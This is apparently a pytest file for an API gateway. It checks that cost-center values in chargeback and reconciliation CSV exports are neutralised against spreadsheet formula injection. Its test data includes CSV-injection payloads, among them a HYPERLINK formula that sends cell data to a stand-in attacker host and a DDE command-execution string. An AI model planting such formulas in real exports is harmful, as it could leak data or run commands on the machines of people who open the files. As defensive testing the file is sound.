"""Hostile input: values crafted to do harm somewhere else (a spreadsheet, a log, the bill),
headers sent twice, tokens and amounts in forms the rules do not allow."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from gateway.db.base import utcnow
from gateway.ledger.periods import period_of
from gateway.reports import reconciliation
from tests.conftest import SUBMIT_PATH, SimulatorProbe, StartGateway
from tests.faults.conftest import OwnDatabase

ADMIN = "admin-token-hostile-input-0123456789"
ADMIN_HEADERS = {"Authorization": f"Bearer {ADMIN}"}
MODEL = "grok-imagine-video-1-5"
# What OWASP lists as formula triggers: = + - @ tab and carriage return.
FORMULAS = [
    '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tlooks=harmless",
    "\rnewline=1",
]


def dangerous(cell: str) -> bool:
    return bool(cell) and cell[0] in "=+-@\t\r"


@pytest.mark.parametrize("formula", FORMULAS)
def test_report_cells_never_reach_a_spreadsheet_as_formulas(
    formula: str,
    own_database: OwnDatabase,
    start_gateway: StartGateway,
    simulator: SimulatorProbe,
) -> None:
    server = start_gateway(database_url=own_database.url, admin_token=ADMIN)
    with httpx.Client(base_url=server.url, timeout=30) as client:
        created = client.post(
            "/admin/teams",
            json={"name": "spreadsheet", "monthly_budget_usd": 100, "cost_center": formula},
            headers=ADMIN_HEADERS,
        )
        assert created.status_code == 201, created.text
        key = client.post("/admin/teams/spreadsheet/keys", json={}, headers=ADMIN_HEADERS)
        tenant = {"Authorization": f"Bearer {key.json()['key']}"}
        job = client.post(SUBMIT_PATH, json={"model": MODEL, "prompt": "x"}, headers=tenant)
        assert client.get(f"/v1/jobs/{job.json()['job_id']}", headers=tenant).status_code == 200
        month = period_of(utcnow())
        exports = {
            fmt: client.get(
                "/admin/reports/chargeback",
                params={"month": month, "format": fmt},
                headers=ADMIN_HEADERS,
            )
            for fmt in ("csv", "focus")
        }
    for fmt, response in exports.items():
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.text, newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if dangerous(c)], (fmt, [c for c in cells if dangerous(c)])
        # Neutralised, not dropped: the value is still there behind a leading quote.
        assert "'" + formula in cells, (
            fmt,
            [c for c in cells if "newline" in c or "harmless" in c],
        )


def test_reconciliation_csv_neutralises_ids_from_the_upstreams_export() -> None:
    export = 'job_id,cost_usd\n=HYPERLINK("x"),1.00\n'
    charges = reconciliation.parse_usage(export)
    result = reconciliation.compare(charges, {}, tolerance_micro_usd=0)
    rows = list(csv.reader(io.StringIO(reconciliation.to_csv(result))))
    assert rows[1][1] == '\'=HYPERLINK("x")'
